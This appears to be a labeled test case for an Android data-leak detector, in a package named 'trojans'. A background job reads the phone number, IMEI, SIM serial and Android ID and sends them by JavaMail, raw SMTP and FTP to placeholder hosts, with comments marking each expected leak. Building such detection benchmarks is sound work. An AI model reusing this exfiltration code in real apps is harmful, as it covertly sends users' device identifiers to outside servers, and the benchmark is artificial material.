package trojans;

import android.app.job.JobParameters;
import android.app.job.JobService;
import android.os.Environment;
import android.provider.Settings;
import android.telephony.TelephonyManager;
import java.io.BufferedReader;
import java.io.ByteArrayInputStream;
import java.io.File;
import java.io.InputStreamReader;
import java.io.PrintStream;
import java.io.PrintWriter;
import java.net.Socket;
import java.util.Properties;
import javax.mail.Message;
import javax.mail.Session;
import javax.mail.Transport;
import javax.mail.internet.InternetAddress;
import javax.mail.internet.MimeBodyPart;
import javax.mail.internet.MimeMessage;
import javax.mail.internet.MimeMultipart;
import org.apache.commons.net.ftp.FTPClient;

/** By mail, by hand-written mail, by FTP. */
public class Mail extends JobService {
    public boolean onStartJob(JobParameters given) {
        final TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        new Thread(() -> {
            try {
                byLibrary(phone.getLine1Number(), phone.getDeviceId());
                byHand(phone.getSimSerialNumber());
                byFtp(Settings.Secure.getString(getContentResolver(), Settings.Secure.ANDROID_ID));
            } catch (Exception e) {
                jobFinished(given, true);
            }
        }).start();
        return true;
    }

    public boolean onStopJob(JobParameters given) {
        return false;
    }

    private void byLibrary(String number, String imei) throws Exception {
        Properties how = new Properties();
        how.put("mail.smtp.host", "mail.example.invalid");
        Session session = Session.getInstance(how, null);
        MimeMessage one = new MimeMessage(session);
        one.setFrom(new InternetAddress("a@example.invalid"));
        one.addRecipient(Message.RecipientType.TO, new InternetAddress("b@example.invalid"));
        one.setSubject("report " + number);
        one.setText("nothing");
        Transport.send(one); // leak
        MimeMessage two = new MimeMessage(session);
        MimeBodyPart part = new MimeBodyPart();
        part.setContent("<b>" + imei + "</b>", "text/html");
        MimeMultipart parts = new MimeMultipart();
        parts.addBodyPart(part);
        two.setContent(parts);
        Transport way = session.getTransport("smtp");
        way.connect();
        way.sendMessage(two, two.getAllRecipients()); // leak
        MimeMessage three = new MimeMessage(session);
        three.setText("hello");
        way.sendMessage(three, three.getAllRecipients()); // no leak
    }

    private void byHand(String serial) throws Exception {
        Socket line = new Socket("mail.example.invalid", 25);
        BufferedReader in = new BufferedReader(new InputStreamReader(line.getInputStream()));
        PrintWriter out = new PrintWriter(line.getOutputStream());
        out.print("HELO phone\r\n"); // no leak
        in.readLine();
        out.print("MAIL FROM:<a@example.invalid>\r\n"); // no leak
        out.print("DATA\r\n"); // no leak
        out.print("Subject: " + serial + "\r\n"); // leak
        out.print(".\r\nQUIT\r\n"); // no leak
        out.flush();
    }

    private void byFtp(String id) throws Exception {
        FTPClient ftp = new FTPClient();
        ftp.connect("ftp.example.invalid");
        ftp.login("a", "b");
        ftp.setFileType(2);
        ftp.storeFile("id.txt", new ByteArrayInputStream(id.getBytes())); // leak
        ftp.storeFile("v.txt", new ByteArrayInputStream("1".getBytes())); // no leak
        ftp.makeDirectory("/" + id); // leak
        File mark = new File(Environment.getExternalStorageDirectory(), "mark");
        PrintStream kept = new PrintStream(mark);
        kept.print("mark");
        kept.close();
        ftp.storeFile("mark", new java.io.FileInputStream(mark)); // no leak
        ftp.logout();
    }
}
